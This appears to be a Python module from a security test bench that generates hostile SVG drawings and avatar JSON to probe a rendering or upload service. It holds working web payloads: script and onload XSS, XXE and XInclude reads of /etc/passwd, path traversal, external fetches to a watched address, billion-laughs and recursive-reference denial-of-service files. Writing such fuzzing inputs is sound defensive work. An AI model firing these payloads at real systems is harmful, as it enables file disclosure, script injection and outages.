"""Drawings that would run, fetch, recurse or never end."""

from __future__ import annotations

from collections.abc import Iterator

from bench.studio.hostile.attack import Attack
from bench.studio.hostile.samples import SVG

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">'


def drawings(elsewhere: str) -> Iterator[Attack]:
    """Make drawings; `elsewhere` is an address where somebody notices whoever comes."""
    for what, text in {**_running(elsewhere), **_fetching(elsewhere), **_endless()}.items():
        yield Attack("drawings", what, text.encode("utf-8", "surrogatepass"), "drawing.svg")
    yield Attack("drawings", "in UTF-16", SVG.decode().encode("utf-16"), "drawing.svg")
    yield Attack("drawings", "with zeros", SVG.replace(b"head", b"he\0ad"), "drawing.svg")
    for what, text in _documents().items():
        yield Attack("drawings", what, text.encode(), "me.avatar.json")


def _running(elsewhere: str) -> dict[str, str]:
    mouth = '<g id="mouth"><path d="M20 60h60"/></g>'
    return {
        "script": f"{HEAD}<script>alert(1)</script>{mouth}</svg>",
        "script from elsewhere": f'{HEAD}<script href="{elsewhere}/x.js"/>{mouth}</svg>',
        "onload": f"{HEAD.replace('<svg ', '<svg onload=alert(1) ')}{mouth}</svg>",
        "onload, quoted": HEAD.replace("<svg ", '<svg onload="alert(1)" ') + mouth + "</svg>",
        "a page in it": f'{HEAD}<foreignObject><iframe src="{elsewhere}"/></foreignObject>{mouth}</svg>',
        "javascript link": f'{HEAD}<a href="javascript:alert(1)">{mouth}</a></svg>',
        "animated link": f'{HEAD}<a><animate attributeName="href" values="javascript:alert(1)"/>{mouth}</a></svg>',
        "a page around it": f"<!doctype html><script>alert(1)</script>{HEAD}{mouth}</svg>",
    }


def _fetching(elsewhere: str) -> dict[str, str]:
    mouth = '<g id="mouth"><path d="M20 60h60"/></g>'
    entity = '<!DOCTYPE svg [<!ENTITY x SYSTEM "{}">]>' + HEAD + "<text>&x;</text>" + mouth + "</svg>"
    places = (f"{elsewhere}/x.png", "file:///etc/passwd", "../../../../etc/passwd", "/dev/zero", "\\\\host\\share")
    fetched = {f"entity {place}": entity.format(place) for place in places}
    fetched |= {
        f"image {place}": f'{HEAD}<image href="{place}" width="9" height="9"/>{mouth}</svg>' for place in places
    }
    fetched |= {f"use {place}": f'{HEAD}<use xlink:href="{place}#a"/>{mouth}</svg>' for place in places}
    return fetched | {
        "style sheet": f'<?xml-stylesheet href="{elsewhere}/x.css"?>{HEAD}{mouth}</svg>',
        "imported style": f'{HEAD}<style>@import url("{elsewhere}/x.css");</style>{mouth}</svg>',
        "fill from elsewhere": f'{HEAD}<g id="mouth"><path fill="url({elsewhere}/x#y)" d="M0 0h9"/></g></svg>',
        "included": f'{HEAD}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>{mouth}</svg>',
        "parameter entity": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{elsewhere}/x.dtd"> %x;]>{HEAD}{mouth}</svg>',
    }


def _endless() -> dict[str, str]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    doubled = "".join(f'<g id="d{n}"><use href="#d{n - 1}"/><use href="#d{n - 1}"/></g>' for n in range(1, 40))
    mouth = '<g id="mouth"><path d="M20 60h60"/></g>'
    return {
        "a billion laughs": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>{HEAD}<text>&l11;</text>{mouth}</svg>',
        "one large entity, often": f'<!DOCTYPE svg [<!ENTITY a "{"a" * 50_000}">]>{HEAD}{"&a;" * 50_000}</svg>',
        "doubled forty times": f'{HEAD}<g id="d0">{mouth}</g>{doubled}</svg>',
        "using itself": f'{HEAD}<g id="mouth"><use href="#mouth"/></g></svg>',
        "using each other": f'{HEAD}<g id="mouth"><use href="#b"/></g><g id="b"><use href="#mouth"/></g></svg>',
        "a hundred thousand deep": HEAD + "<g>" * 100_000 + "</g>" * 100_000 + "</svg>",
        "a hundred thousand parts": HEAD + mouth * 60_000 + "</svg>",
        "a path of a million steps": f'{HEAD}<g id="mouth"><path d="M0 0{"h1v1" * 900_000}"/></g></svg>',
        "no dashes": f'{HEAD}<g id="mouth"><path stroke="red" stroke-dasharray="1e-9" d="M0 0h9"/></g></svg>',
        "a page of 10^30": f"{HEAD.replace('100', '1e30')}{mouth}</svg>",
        "a page of nothing": f"{HEAD.replace('100', '0')}{mouth}</svg>",
        "a page of NaN": f"{HEAD.replace('100', 'NaN')}{mouth}</svg>",
        "numbers beyond all": f'{HEAD}<g id="mouth" transform="scale(1e300) rotate(1e300)">{mouth}</g></svg>',
        "a wide blur": f'{HEAD}<filter id="f"><feGaussianBlur stdDeviation="1e9"/></filter><g id="mouth" '
        f'filter="url(#f)"><path d="M0 0h9"/></g></svg>',
        "noise of many octaves": f'{HEAD}<filter id="f"><feTurbulence numOctaves="999999999" baseFrequency="9e9"/>'
        f'</filter><g id="mouth" filter="url(#f)"><path d="M0 0h9"/></g></svg>',
        "masks in masks": HEAD
        + "".join(f'<mask id="m{n}" mask="url(#m{n + 1})"><rect width="99" height="99"/></mask>' for n in range(600))
        + f'<g mask="url(#m0)">{mouth}</g></svg>',
        "patterns in patterns": HEAD
        + "".join(
            f'<pattern id="p{n}" width="1" height="1"><rect fill="url(#p{n + 1})" width="9" height="9"/></pattern>'
            for n in range(300)
        )
        + '<g id="mouth"><rect fill="url(#p0)" width="99" height="99"/></g></svg>',
        "many attributes": "<svg " + " ".join(f'a{n}="1"' for n in range(50_000)) + f">{mouth}</svg>",
        "a long name": HEAD + f'<g id="{"mouth" * 200_000}"/></svg>',
        "half of a character": HEAD + '<g id="mouth\ud800"/></svg>',
        "never closed": HEAD + "<g" * 1000,
    }


def _documents() -> dict[str, str]:
    start = '{"schema": "avatar.1", "style": "micah", '
    return {
        "an avatar of a strange style": '{"schema": "avatar.1", "style": "../../../etc/passwd", "options": {}}',
        "an avatar with a million parts": start + '"options": {' + '"a": "b", ' * 5000 + '"c": "d"}}',
        "an avatar that is deep": start + '"options": ' + "[" * 30_000 + "]" * 30_000 + "}",
        "an avatar of numbers": start + '"options": {"hairVariant": 1e999, "x": NaN}}',
        "an avatar with a link": start + '"background": "url(file:///etc/passwd)", "options": {}}',
        "an avatar twice": start + '"style": "open-peeps", "options": {}}',
        "an avatar of a later schema": '{"schema": "avatar.99", "style": "micah", "options": {}}',
    }
